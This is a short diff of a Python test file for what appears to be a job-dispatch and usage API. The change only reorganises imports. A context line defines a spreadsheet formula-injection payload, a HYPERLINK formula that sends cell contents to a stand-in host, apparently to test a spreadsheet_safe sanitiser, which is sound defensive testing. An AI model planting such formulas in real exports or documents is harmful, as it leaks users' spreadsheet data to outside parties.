@@ -14,8 +14,8 @@ from fastapi.testclient import TestClient
 from api.dispatcher.backend import RayJobState
 from api.usage.service import spreadsheet_safe
 from tests.factories.auth import scoped_token
-from tests.integration.test_dispatcher import World, one_worker, run
-from tests.integration.test_usage import bearer, submit_as
+from tests.factories.http import bearer
+from tests.factories.world import World, one_worker, run, submit_as
 from trainmaster.models import JobStatus
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
